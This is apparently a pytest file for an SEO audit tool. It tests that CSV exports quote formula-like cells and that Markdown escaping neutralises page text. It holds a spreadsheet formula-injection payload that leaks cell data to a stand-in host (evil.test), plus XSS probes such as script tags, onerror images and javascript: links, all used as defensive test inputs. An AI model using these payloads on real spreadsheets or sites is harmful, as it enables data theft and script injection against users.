"""CSV cells a spreadsheet reads as text, and Markdown that renders page text literally."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

import seokit
from seokit.report import render
from seokit.report.csv import cell
from seokit.report.markdown import escape
from tests.report.sample import load_sample

HOSTILE = Path(__file__).resolve().parent / "fixtures" / "hostile.html"
FORMULA_TITLE = '=HYPERLINK("https://evil.test/?leak="&A1,"Click for a discount")'


def _rows(text: str) -> list[dict[str, str]]:
    assert "\r\n" in text  # RFC 4180 line ends
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _formula_page(tmp_path: Path) -> Path:
    page = tmp_path / "formula.html"
    page.write_text(
        f"<!doctype html><html lang=en><head><title>{FORMULA_TITLE.replace('&', '&amp;')}</title>"
        '<meta name="description" content="+1 555 0100 @home -5 % off"></head><body>'
        "<h1>Formula page</h1><p>Some text about offers and prices for the whole family.</p>"
        '<p><a href="https://example.com/">=SUM(A1:A9)</a></p></body></html>', encoding="utf-8")
    return page


def test_a_title_starting_with_equals_is_text_in_the_pages_csv(tmp_path: Path) -> None:
    report = seokit.audit(_formula_page(tmp_path))
    rows = _rows(render(report, "csv-pages"))
    assert len(rows) == 1
    assert rows[0]["title"] == "'" + FORMULA_TITLE
    # the findings and links tables treat page text the same way
    findings = _rows(render(report, "csv"))
    texts = [r["text"] for r in findings if r["text"]]
    assert texts and all(not t.startswith(("=", "+", "-", "@")) for t in texts)
    # the offending source text, as written in the file (with its &amp;)
    assert "'" + FORMULA_TITLE.replace("&", "&amp;") in texts
    links = _rows(render(report, "csv-links"))
    assert [r["text"] for r in links] == ["'=SUM(A1:A9)"]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_formula_starts_are_quoted(value: str) -> None:
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", ["a=1", "1-2", "text", "", "'quoted", " =x"])
def test_other_text_is_unchanged(value: str) -> None:
    assert cell(value) == value


def test_numbers_stay_numbers() -> None:
    assert cell(-3) == -3 and cell(0.25) == 0.25 and cell(None) == "" and cell(True) == "true"


def test_sample_csvs_have_a_row_per_finding_page_and_link() -> None:
    report = load_sample()
    findings = _rows(render(report, "csv"))
    site_findings = (report.site or {}).get("findings") or []
    assert len(findings) == len(report.findings) + sum(len(f["pages"]) for f in site_findings)
    lg101 = [r for r in findings if r["code"] == "LG101"]
    assert [r["text"] for r in lg101] == ["칠곡출장마사지", "칠곡출장마사지"]
    pages = _rows(render(report, "csv-pages"))
    assert [p["url"] for p in pages][-1] == "content/deals.md"
    assert pages[-1]["title"].startswith("'=HYPERLINK(")
    broken = [r for r in _rows(render(report, "csv-links")) if r["status"] == "404"]
    assert [(r["source"], r["target"]) for r in broken] == [
        ("examples/site/services.html", "https://harbor-wellness.example/pricing.html")]


def _rendered(markdown: str) -> str:
    # GitHub renders raw HTML in comments; so does this parser with html enabled
    html: str = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
    return html


@pytest.mark.parametrize("text", [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[click](javascript:alert(1))",
    "a | b | c", "*bold* _it_ `code` ~~x~~", "# heading", "1. item", "- item", "> quote",
    "line\nbreak", "&lt;b&gt; entity", "back\\slash",
])
def test_escaped_markdown_renders_as_the_same_text(text: str) -> None:
    html = _rendered(f"| x |\n|---|\n| {escape(text)} |\n\n{escape(text)}\n")
    assert "<script" not in html and "<img" not in html and "<a " not in html
    assert "<strong>" not in html and "<em>" not in html and "<code>" not in html
    assert "<h1>" not in html and "<ol>" not in html and "<blockquote>" not in html
    # the table still has exactly one cell per row
    assert html.count("<td>") == 1


def test_escaped_markdown_pings_and_links_nobody() -> None:
    out = escape("thanks @octocat, see #12 and https://evil.test or www.evil.test")
    assert "@octocat" not in out and "#12" not in out
    assert "https://" not in out and "www.evil" not in out


def test_markdown_of_a_hostile_page() -> None:
    report = seokit.audit(HOSTILE)
    markdown = render(report, "markdown")
    html = _rendered(markdown)
    assert "<script" not in html and "<img" not in html and "<svg" not in html
    assert 'href="javascript' not in html.lower()
    assert "칠곡출장마사지" in html


def test_markdown_lists_every_finding_of_the_sample() -> None:
    report = load_sample()
    markdown = render(report, "markdown")
    rows = [line for line in markdown.splitlines() if line.startswith("| ") and "[" in line
            and "](https://seokit" in line]
    assert len(rows) == len(report.findings)
